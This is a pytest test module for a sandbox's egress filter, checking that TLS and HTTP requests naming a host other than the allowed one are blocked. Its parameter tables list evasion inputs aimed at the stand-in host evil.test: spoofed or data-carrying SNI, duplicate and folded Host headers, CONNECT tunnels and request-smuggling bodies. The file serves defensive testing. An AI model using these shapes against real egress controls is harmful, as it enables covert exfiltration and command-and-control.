"""Another host than the one that was looked up, said in TLS or HTTP: they all share one address."""

from __future__ import annotations

from typing import Any

import pytest

from tests.egress.battery import LOOKUPS, V4, Sides, carried, fixtures, heard, new_word
from tests.egress.internet import Flow, Internet

pytestmark = pytest.mark.backends(docker="user")

standing, sides = fixtures("""
[network]
allow = ["allowed.test:443", "allowed.test:80", "cdn.test:443", "cdn.test:80",
         "*.sub.allowed.test:443", "*.sub.allowed.test:80", "*.sub.allowed.test:8080",
         "198.51.100.7:80", "198.51.100.7:443", "[2001:db8::7]:80", "localhost:18001"]
""")

HTTPS, HTTP = Flow("tcp", V4, 443), Flow("tcp", V4, 80)


def fresh_host() -> str:
    """A name below the wildcard that no earlier test used: what is denied of it is told anew."""
    return f"{new_word()}.sub.allowed.test"


def filled(value: Any, here: str, word: str) -> Any:
    """A table's value, in which HERE stands for the host that is looked up and `@` for the word."""
    if isinstance(value, str):
        return value.replace("HERE", here).replace("@", word)
    return [filled(one, here, word) for one in value] if isinstance(value, list) else value


# --- TLS ------------------------------------------------------------------------------------------

SLOWLY, LONG = {"by_byte": True}, {"long": True}
WRONG_HELLOS: list[Any] = [
    pytest.param("evil.test", {}, "SNI says `evil.test`", id="another host"),
    pytest.param("allowed.test", {}, "SNI says `allowed.test`", id="another host that is allowed"),
    pytest.param("@.evil.test", {}, "SNI says", id="data in the SNI"),
    pytest.param("@.HERE", {}, "SNI says", id="below the name"),
    pytest.param("b.sub.allowed.test", {}, "SNI says", id="another name of the wildcard"),
    pytest.param("HERE.@.test", {}, "SNI says", id="the name as a prefix"),
    pytest.param("@HERE", {}, "SNI says", id="the name as a suffix"),
    pytest.param("HERE", {"patch": ["b.allow", "b\0allow"]}, "", id="NUL"),
    pytest.param("HERE", {"patch": ["b.allow", "b%allow"]}, "", id="percent"),
    pytest.param("HERE", {"patch": ["b.allow", "b\nallow"]}, "", id="line feed"),
    pytest.param("HERE", {"patch": ["b.allow", "b\xc0allow"]}, "", id="not ASCII"),
    pytest.param("@.evil.test", {"by_byte": True}, "SNI says", id="byte by byte"),
    pytest.param("@.evil.test", {"records": 1}, "SNI says", id="in records of one byte"),
    pytest.param("@.evil.test", {"records": 7, "by_byte": True}, "SNI says", id="in records, slowly"),
    pytest.param("@.evil.test", {"long": True}, "SNI says", id="longer than 1 KiB"),
    pytest.param("@.evil.test", {"long": True, "records": 100}, "SNI says", id="long, in records"),
    pytest.param("@.evil.test", {"long": True, "by_byte": True}, "SNI says", id="long, byte by byte"),
    pytest.param("HERE", {"ech": True}, "encrypted ClientHello", id="ECH behind the right name"),
    pytest.param("@.evil.test", {"ech": True}, "encrypted ClientHello", id="ECH behind another"),
    pytest.param(None, {}, "no SNI", id="no SNI"),
    pytest.param(None, {"long": True, "by_byte": True}, "no SNI", id="no SNI, long, byte by byte"),
]


@pytest.mark.threat(
    "D3", backend="native", proves="a ClientHello with another SNI, none or ECH does not leave"
)
@pytest.mark.threat("K3", backend="native", proves="HTTPS C2 behind an allowed host's address fails")
@pytest.mark.parametrize(("sni", "shape", "reason"), WRONG_HELLOS)
def test_a_client_hello_for_another_host(
    sni: str | None, shape: dict[str, Any], reason: str, sides: Sides, internet: Internet
) -> None:
    word, here = new_word(), fresh_host()
    sni = filled(sni, here, word)
    asked = {"host": here, "port": 443, "sni": sni, "word": word, **shape}
    sides.refused("tls.tell", **asked)
    sides.silent(word, LOOKUPS, HTTPS)
    assert carried(internet, HTTPS) == b""
    assert set(internet.names_asked()) <= {here}
    sides.denied("egress.deny", reason, host=here, port=443)
    internet.begin()
    result = sides.outside.call("tls.tell", **asked)
    if not {"patch", "ech"} & set(shape):
        assert [(one["path"], one["sni"]) for one in internet.requests()] == [(f"/{word}", sni)], result
        return
    # No server goes on with a hello that was changed on its way; it arrived all the same.
    sent = shape["patch"][1].encode("latin-1") if "patch" in shape else word.encode()
    assert sent in carried(internet, HTTPS), result


@pytest.mark.threat(
    "D3", backend="native", proves="SNI and the name looked up may differ in no pair of allowed names"
)
@pytest.mark.parametrize(
    ("host", "sni"), [("cdn.test", "allowed.test"), ("allowed.test", "cdn.test"), ("allowed.test", "HERE")]
)
def test_another_allowed_name(host: str, sni: str, sides: Sides, internet: Internet) -> None:
    word = new_word()
    sni = filled(sni, fresh_host(), word)
    asked = {"host": host, "port": 443, "sni": sni, "word": word}
    sides.refused("tls.tell", **asked)
    assert set(internet.names_asked()) <= {host}
    sides.silent(word, LOOKUPS, HTTPS)
    assert carried(internet, HTTPS) == b""
    sides.denied("egress.deny", f"SNI says `{sni}`", host=host, port=443)
    sides.control(word, "tls.tell", **asked)


@pytest.mark.parametrize(
    "shape",
    [{}, {"by_byte": True}, {"records": 1}, {"long": True}, {"long": True, "records": 9, "by_byte": True}],
)
def test_the_right_name_passes_in_every_shape(
    shape: dict[str, Any], sides: Sides, internet: Internet
) -> None:
    word, here = new_word(), fresh_host()
    answer = sides.attack("tls.tell", host=here, port=443, sni=here, word=word, **shape)
    assert "200 OK" in str(answer)
    assert [(one["path"], one["sni"]) for one in internet.requests()] == [(f"/{word}", here)]


# --- HTTP -----------------------------------------------------------------------------------------


def get(host: str, path: str = "@", target: str = "", more: str = "") -> str:
    """A request, the last of its connection."""
    return f"GET {target or '/' + path} HTTP/1.1\r\nHost: {host}\r\n{more}Connection: close\r\n\r\n"


def first(more: str = "", body: str = "") -> str:
    """A request that is allowed, with others after it."""
    return f"POST /first HTTP/1.1\r\nHost: HERE\r\n{more}\r\n{body}"


CHUNKED, FOUR = "Transfer-Encoding: chunked\r\n", "Content-Length: 4\r\n"
NOTHING = "Content-Length: 0\r\n"
EVIL = get("evil.test")
ANOTHER = "Host says `evil.test`"
# Of several parts each is sent after the answer to the one before.
WRONG_REQUESTS: list[Any] = [
    pytest.param([EVIL], ANOTHER, id="another Host"),
    pytest.param([get("allowed.test")], "Host says `allowed.test`", id="another Host that is allowed"),
    pytest.param([get("@.evil.test", "")], "Host says", id="data in Host"),
    pytest.param([get("HERE:81")], "Host says", id="another port in Host"),
    pytest.param([get("HERE", target="http://evil.test/@")], "target says `evil.test`",
                 id="absolute-form to another host"),
    pytest.param([get("evil.test", target="http://HERE/@")], ANOTHER, id="absolute-form, another Host"),
    pytest.param([get("evil.test", target="http://evil.test/@")], ANOTHER, id="absolute-form and Host"),
    pytest.param([get("HERE", target="http://HERE@evil.test/")], "", id="user information"),
    pytest.param([get("HERE", target="http://HERE:81/@")], "target says", id="another port"),
    pytest.param([get("HERE", more="Host: evil.test\r\n")], "", id="two Hosts"),
    pytest.param([get("evil.test", more="Host: HERE\r\n")], "", id="two Hosts, the other first"),
    pytest.param([get("HERE\r\n evil.test")], "", id="folded Host"),
    pytest.param([get("HERE,evil.test")], "", id="a list of Hosts"),
    pytest.param([get("HERE\0.evil.test")], "", id="NUL in Host"),
    pytest.param([get("HERE\r.evil.test")], "", id="bare CR in Host"),
    pytest.param([get("HERE%2eevil.test")], "", id="percent in Host"),
    pytest.param([EVIL.replace("\r", "")], "", id="bare line feeds"),
    pytest.param(["GET /@ HTTP/1.0\r\n\r\n"], "Host", id="no Host"),
    pytest.param(["GET /@ HTTP/1.1\r\nHost : evil.test\r\nHost: HERE\r\n\r\n"], "", id="space in a name"),
    pytest.param(["GET http://evil.test/@\r\n"], "", id="HTTP/0.9"),
    pytest.param(["\r\n\r\n" + EVIL], "", id="empty lines first"),
    pytest.param(["get /@ http/1.1\r\nhost: evil.test\r\n\r\n"], "", id="small letters"),
    pytest.param(["CONNECT evil.test:443 HTTP/1.1\r\nHost: HERE\r\n\r\n", "@"], "CONNECT", id="CONNECT"),
    pytest.param(["CONNECT HERE:80 HTTP/1.1\r\nHost: HERE:80\r\n\r\n", EVIL], "CONNECT",
                 id="CONNECT, then another host"),
    pytest.param([first(NOTHING) + EVIL], ANOTHER, id="pipelined request with another Host"),
    pytest.param([first(NOTHING), EVIL], ANOTHER, id="second request with another Host"),
    pytest.param([first(FOUR, "body") + EVIL], ANOTHER, id="behind a body"),
    pytest.param([first(CHUNKED, "1\r\nx\r\n0\r\n\r\n") + EVIL], ANOTHER, id="behind a chunked body"),
    pytest.param([first(CHUNKED + FOUR, "0\r\n\r\n") + EVIL], "", id="two lengths of the body"),
    pytest.param([first(FOUR + "Content-Length: 5\r\n", "body@") + EVIL], "", id="two Content-Lengths"),
    pytest.param([first("Transfer-Encoding: xchunked\r\n", "@") + EVIL], "", id="an unknown encoding"),
    pytest.param([first("Upgrade: nothing\r\n" + NOTHING) + EVIL], ANOTHER, id="behind a declined upgrade"),
    pytest.param([first(NOTHING), get("HERE", more="Upgrade: h2c\r\n")], "upgrade", id="a late upgrade"),
    pytest.param(["PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0@"], "HTTP/2", id="HTTP/2"),
    pytest.param(["PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + EVIL], "", id="PROXY protocol"),
    pytest.param(["@ and no request at all\r\n\r\n"], "neither TLS nor HTTP", id="raw bytes"),
    pytest.param(["\x80\x2e\x01\0\2@"], "", id="SSL 2"),
    pytest.param(["\0@"], "neither TLS nor HTTP", id="binary"),
    pytest.param([*EVIL[:-1], "\n"], ANOTHER, id="byte by byte"),
]  # fmt: skip


@pytest.mark.threat(
    "D3", backend="native", proves="a request for another host, in whatever form, does not leave"
)
@pytest.mark.threat(
    "K3", backend="native", proves="HTTP C2 by Host, absolute-form, CONNECT or smuggling fails"
)
@pytest.mark.parametrize(("parts", "reason"), WRONG_REQUESTS)
def test_a_request_for_another_host(parts: list[str], reason: str, sides: Sides, internet: Internet) -> None:
    word, here = new_word(), fresh_host()
    asked = {"host": here, "port": 80, "parts": filled(parts, here, word), "answers": len(parts) == 2}
    sides.attack("streams.exchange", **asked)
    sides.silent(word, LOOKUPS, HTTP)
    # What was sent before, to the host that is allowed, may have arrived; nothing of what followed.
    assert b"evil" not in carried(internet, HTTP)
    assert {one["path"] for one in internet.requests()} <= {"/first"}
    assert set(internet.names_asked()) <= {here}
    sides.denied("egress.deny", reason, host=here, port=80)
    sides.control(word, "streams.exchange", **asked)


@pytest.mark.threat(
    "D3", backend="native", proves="what a port is for decides nothing: TLS on 80, HTTP on 443"
)
@pytest.mark.parametrize(
    ("name", "port", "asked"),
    [
        pytest.param("tls.tell", 8080, {"sni": "@.evil.test", "word": "x"}, id="TLS on 8080"),
        pytest.param("streams.exchange", 443, {"parts": [EVIL]}, id="HTTP on 443"),
    ],
)
def test_the_other_protocol_on_a_port(
    name: str, port: int, asked: dict[str, Any], sides: Sides, internet: Internet
) -> None:
    word, here = new_word(), fresh_host()
    asked = {key: filled(value, here, word) for key, value in asked.items()}
    sides.refused(name, host=here, port=port, **asked)
    sides.silent(word, LOOKUPS, Flow("tcp", V4, port))
    assert carried(internet, Flow("tcp", V4, port)) == b""
    sides.denied("egress.deny", "evil.test`", host=here, port=port)
    sides.control(word, name, host=here, port=port, **asked)


# --- what is listed without a name ----------------------------------------------------------------

PLACES = [("198.51.100.7", "198.51.100.7"), ("2001:db8::7", "[2001:db8::7]"), ("127.0.0.1", "localhost")]


@pytest.mark.threat(
    "D3", backend="native", proves="to a listed address or loopback port only its own Host is said"
)
@pytest.mark.threat(
    "H2", backend="native", proves="a service of the host's is not spoken to under another name"
)
@pytest.mark.parametrize(("address", "host"), PLACES)
def test_another_host_than_the_listed_address(
    address: str, host: str, sides: Sides, internet: Internet
) -> None:
    word, port = new_word(), 18001 if address == "127.0.0.1" else 80
    for wrong in ("evil.test", "allowed.test"):
        said = filled([get(wrong)], "", word)
        sides.refused("streams.exchange", host=address, port=port, parts=said)
        sides.silent(word, Flow("tcp", address, port))
        sides.denied("egress.deny", f"Host says `{wrong}`", port=port)
    sides.attack("streams.exchange", host=address, port=port, parts=filled([get(host)], "", word))
    assert heard(internet, word)


@pytest.mark.threat("D3", backend="native", proves="to a listed address no SNI but none is said")
def test_another_sni_than_the_listed_address(sides: Sides, internet: Internet) -> None:
    word = new_word()
    asked = {"host": "198.51.100.7", "port": 443, "word": word}
    sides.refused("tls.tell", sni="evil.test", **asked)
    sides.silent(word, Flow("tcp", "198.51.100.7", 443))
    sides.denied("egress.deny", "SNI says `evil.test`", host="198.51.100.7", port=443)
    sides.attack("tls.tell", sni=None, **asked)
    assert [(one["path"], one["sni"]) for one in internet.requests()] == [(f"/{word}", None)]
